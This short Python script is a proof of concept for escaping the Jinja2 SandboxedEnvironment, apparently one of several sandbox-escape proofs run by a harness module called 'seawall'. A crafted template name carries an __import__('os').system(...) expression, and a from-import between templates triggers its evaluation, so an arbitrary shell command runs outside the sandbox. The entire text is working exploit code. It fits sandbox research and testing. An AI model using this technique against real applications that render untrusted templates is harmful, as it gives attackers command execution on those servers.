"""The same proof as ../python, written as a script."""

import seawall
from jinja2 import DictLoader
from jinja2.sandbox import SandboxedEnvironment

name = "{__import__([*context.parent.values()][-2]).system([*context.parent.values()][-1])}"
templates = {name: "{% from 'empty' import absent %}{{ absent() }}", "empty": ""}
env = SandboxedEnvironment(loader=DictLoader(templates))
env.get_template(name).render(first="os", second=seawall.command)
